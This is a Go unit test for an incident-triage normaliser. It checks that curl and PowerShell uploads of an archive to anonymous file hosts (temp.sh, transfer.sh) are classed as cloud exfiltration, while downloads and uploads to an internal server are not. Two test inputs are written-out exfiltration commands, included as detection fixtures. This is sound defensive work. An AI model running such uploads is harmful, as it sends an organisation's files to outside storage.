package triage

import "testing"

// TestAnHTTPUploadToAFileHostIsExfiltration holds that curl or
// PowerShell sending a file to an anonymous file-sharing host is
// exfiltration to consumer storage, as rclone to MEGA is; a download from
// such a host, or an upload to the organisation's own server, is not.
func TestAnHTTPUploadToAFileHostIsExfiltration(t *testing.T) {
	for cmd, want := range map[string]string{
		`curl.exe -s -F "file=@C:\Users\d.k\AppData\Local\Temp\cad.7z" https://temp.sh/upload`:               "temp.sh",
		`powershell -c Invoke-RestMethod -Uri https://transfer.sh/cad.7z -Method Put -InFile C:\Temp\cad.7z`: "transfer.sh",
		`curl.exe -s -o C:\Temp\tool.zip https://temp.sh/abc/tool.zip`:                                       "",
		`curl.exe -s -F "file=@C:\Temp\report.csv" https://upload.example.com/ingest`:                        "",
	} {
		raw := map[string]any{"ProcessCommandLine": cmd, "FileName": "curl.exe", "DeviceName": "ENG-WS-0331"}
		if got := normalize(Incident{IncidentType: "malware", RawData: raw}, Indicators{}).Endpoint.Behaviour.CloudExfil; got != want {
			t.Errorf("%s: exfiltration to %q, want %q", cmd, got, want)
		}
	}
}
